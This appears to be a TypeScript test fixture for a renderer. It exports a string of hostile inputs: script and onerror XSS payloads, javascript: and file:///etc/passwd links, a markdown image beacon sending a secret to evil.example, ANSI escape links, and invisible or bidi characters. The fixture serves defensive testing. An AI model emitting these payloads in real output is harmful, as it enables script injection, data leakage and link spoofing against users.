/** Hostile text, as a page, a tool or a model may send it: it must do nothing, and look like nothing else. */
const LONG = "x".repeat(5_000);
export const HOSTILE: string = [
  '<img src="x" onerror="document.title=\'owned\'"><script>document.title="owned"</script><style>body{display:none}</style>',
  '<iframe src="https://evil.example"></iframe> <b>bold?</b> <a href="javascript:document.title=1">click</a>',
  "![pixel](https://evil.example/pixel.png?secret=1) ![two](data:image/png;base64,AAAA)",
  "[the bank](https://evil.example/login) [script](javascript:alert(1)) [file](file:///etc/passwd) <https://evil.example/auto>",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 bell\u0007",
  "\u202eesrever\u202c \u2066hidden\u2069 zero\u200bwidth \u00ad tag\u{e0041}",
  "مرحبا بالعالم שלום עולם",
  `${">".repeat(400)} deep`,
  `${"- ".repeat(60)}nested`,
  LONG,
  "| a | b |\n|---|---|\n| <script>1</script> | **b** |",
  "# heading\n\n```html\n<script>alert(1)</script>\n```",
].join("\n\n");
